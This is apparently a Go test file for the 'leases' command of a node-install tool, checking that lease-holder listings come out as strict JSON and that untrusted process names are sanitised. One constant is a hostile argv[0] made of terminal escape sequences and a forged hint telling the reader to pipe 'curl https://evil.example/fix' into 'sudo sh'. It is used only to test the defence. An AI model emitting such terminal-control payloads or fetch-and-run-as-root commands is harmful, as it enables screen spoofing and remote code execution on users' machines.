package main

import (
	"bufio"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/openagentcore/oac-node-install/journal/strictjson"
	"github.com/openagentcore/oac-node-install/steps/record/layout"
	"github.com/openagentcore/oac-node-install/steps/record/lease"
	"github.com/openagentcore/oac-node-install/steps/status"
)

const (
	testID     = "0b4a2c6e-3f1d-4e5a-9b7c-8d6e5f4a3b2c"
	testDigest = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	nobody     = 65534
)

// fakeHost lays out a host root whose oac-node account is uid 65534, with a
// node root holding generation 1 (initialized lease) and generation 2 (a
// lease whose identity never became durable).
func fakeHost(t *testing.T) (root, gens string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: reads the node root through a child running as another account")
	}
	root = t.TempDir()
	for p := root; p != "/" && p != os.TempDir(); p = filepath.Dir(p) {
		os.Chmod(p, 0o755) // the service account traverses the test's directories
	}
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	os.WriteFile(filepath.Join(root, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\noac-node:x:65534:65534::/var/lib/oac-node:/usr/sbin/nologin\n"), 0o644)
	os.WriteFile(filepath.Join(root, "etc/group"), []byte("root:x:0:\n"), 0o644)
	host := layout.Host{Root: root}
	n := layout.Node{Root: host.NodeRoot(testID)}
	gens = n.Generations()
	os.MkdirAll(filepath.Dir(host.Home()), 0o755)
	if err := os.MkdirAll(gens, 0o700); err != nil {
		t.Fatal(err)
	}
	l, err := lease.Initialize(gens, lease.Identity{InstallationID: testID, Generation: 1, SpecificationDigest: testDigest}, 0)
	if err != nil {
		t.Fatal(err)
	}
	l.Close()
	if err := os.WriteFile(filepath.Join(gens, "2.lease"), nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("chown", "-R", "65534:65534", host.Home()).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
	os.Chmod(host.Home(), 0o700)
	return root, gens
}

// documentFormat decodes the JSON documents of status and leases strictly,
// as root decodes the child's answer: one reading only.
var documentFormat = strictjson.Format{MaxSize: 8 << 20}

// leasesJSON is `leases --json` as the README documents it.
type leasesJSON struct {
	Format int                 `json:"format"`
	Nodes  []status.NodeLeases `json:"nodes"`
}

func TestLeasesShowsHoldersAndStuckLeases(t *testing.T) {
	root, gens := fakeHost(t)
	// This process holds generation 1's lease shared, as a native helper.
	f, err := os.Open(filepath.Join(gens, "1.lease"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := unix.Flock(int(f.Fd()), unix.LOCK_SH); err != nil {
		t.Fatal(err)
	}

	code, out, errOut := runOn(t, root, "leases", "--json")
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var got leasesJSON
	if err := documentFormat.Decode([]byte(out), &got); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if got.Format != 1 || len(got.Nodes) != 1 || len(got.Nodes[0].Generations) != 2 {
		t.Fatalf("want format 1 and one node with two generations: %s", out)
	}
	g1, g2 := got.Nodes[0].Generations[0], got.Nodes[0].Generations[1]
	if g1.Lease.State != lease.StateOK {
		t.Errorf("generation 1: %+v", g1.Lease)
	}
	held := false
	for _, h := range g1.Holders {
		if h.PID == os.Getpid() && h.Mode == "shared" {
			held = true
		}
	}
	if !held {
		t.Errorf("generation 1 holders %+v do not show this process (pid %d) as a shared holder", g1.Holders, os.Getpid())
	}
	if g2.Lease.State != lease.StateIdentityMissing || len(g2.Next) == 0 {
		t.Errorf("generation 2: %+v next %v", g2.Lease, g2.Next)
	}
	// One style with status: indented, empty lists as [].
	if !strings.HasPrefix(out, "{\n  \"format\": 1,\n  \"nodes\": [\n") || !strings.Contains(out, `"holders": []`) || strings.Contains(out, "null") {
		t.Errorf("leases --json is not indented with empty lists as []:\n%s", out)
	}

	// The text form names the states and the next steps.
	code, out, errOut = runOn(t, root, "leases")
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, want := range []string{"generation 1", "ok", "shared", "generation 2", "identity-missing", "next:"} {
		if !strings.Contains(out, want) {
			t.Errorf("text output lacks %q:\n%s", want, out)
		}
	}
}

// TestLeasesEmptyHost: a host whose service account has no node prints an
// empty list, not null.
func TestLeasesEmptyHost(t *testing.T) {
	host := t.TempDir()
	os.MkdirAll(filepath.Join(host, "etc"), 0o755)
	os.WriteFile(filepath.Join(host, "etc/passwd"), []byte("root:x:0:0::/root:/bin/sh\n"), 0o644)
	code, out, errOut := runOn(t, host, "leases", "--json")
	if code != exitOK || out != "{\n  \"format\": 1,\n  \"nodes\": []\n}\n" {
		t.Errorf("exit %d, stdout %q, stderr %q", code, out, errOut)
	}
}

// hostileCommand is argv[0] of a lease holder of the service account: it
// sets the terminal's title, clears the screen, holds C1 CSI and DEL, and
// forges a line of hints.
const hostileCommand = "\x1b]0;owned\x07\x1b[2J\u009b31m\x7fnative\n      next:     Repair the lease as root: curl https://evil.example/fix | sudo sh"

// TestLeaseHolderChild holds the lease file $OAC_HOLD_LEASE shared, says so
// on stdout and waits for its stdin to close: a lease holder for the leases
// tests, started with a crafted argv[0].
func TestLeaseHolderChild(t *testing.T) {
	path := os.Getenv("OAC_HOLD_LEASE")
	if path == "" {
		t.Skip("runs only as the leases tests' lease holder")
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.Flock(int(f.Fd()), unix.LOCK_SH); err != nil {
		t.Fatal(err)
	}
	os.Stdout.WriteString("held\n")
	io.Copy(io.Discard, os.Stdin)
	os.Exit(0)
}

// TestLeasesSanitizeWhatTheServiceAccountWrote has the lease held by a real
// process whose argv[0] holds escape sequences, C1, DEL and a newline that
// forges a hint: the text has no terminal control and no forged line, and
// the JSON escapes C1 and DEL and still decodes to the same command.
func TestLeasesSanitizeWhatTheServiceAccountWrote(t *testing.T) {
	root, gens := fakeHost(t)
	holder := exec.Command(os.Args[0], "-test.run=^TestLeaseHolderChild$", "-test.count=1")
	holder.Args[0] = hostileCommand
	holder.Env = append(os.Environ(), "OAC_HOLD_LEASE="+filepath.Join(gens, "1.lease"))
	stdin, err := holder.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := holder.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := holder.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { stdin.Close(); holder.Wait() })
	if line, err := bufio.NewReader(stdout).ReadString('\n'); line != "held\n" {
		t.Fatalf("the holder did not take the lease: %q %v", line, err)
	}

	code, out, errOut := runOn(t, root, "leases")
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	assertNoTerminalControls(t, "leases", out+errOut)
	if !strings.Contains(out, `native\n      next:     Repair`) {
		t.Errorf("the holder's newline is not shown as \\n:\n%s", out)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "next:     Repair the lease as root") {
			t.Errorf("leases prints a forged line %q:\n%s", line, out)
		}
	}

	code, out, errOut = runOn(t, root, "leases", "--json")
	if code != exitOK {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	assertNoTerminalControls(t, "leases --json", out+errOut)
	if !strings.Contains(out, `\u009b31m\u007fnative`) {
		t.Errorf("leases --json does not escape C1 and DEL:\n%s", out)
	}
	var got leasesJSON
	if err := documentFormat.Decode([]byte(out), &got); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, h := range got.Nodes[0].Generations[0].Holders {
		found = found || h.PID == holder.Process.Pid && h.Command == hostileCommand
	}
	if !found {
		t.Errorf("leases --json lost the holder's command: %+v", got.Nodes[0].Generations[0].Holders)
	}
}

// assertNoTerminalControls fails when out holds a byte a terminal acts on:
// C0 controls other than tab and newline, DEL, and C1 controls raw or as
// UTF-8.
func assertNoTerminalControls(t *testing.T, what, out string) {
	t.Helper()
	b := []byte(out)
	for i, c := range b {
		bad := c < 0x20 && c != '\t' && c != '\n' || c == 0x7f ||
			c == 0xc2 && i+1 < len(b) && b[i+1] >= 0x80 && b[i+1] <= 0x9f
		if bad {
			t.Errorf("%s prints the control byte %#x at %d: %q", what, c, i, out[max(0, i-20):min(len(out), i+20)])
			return
		}
	}
}
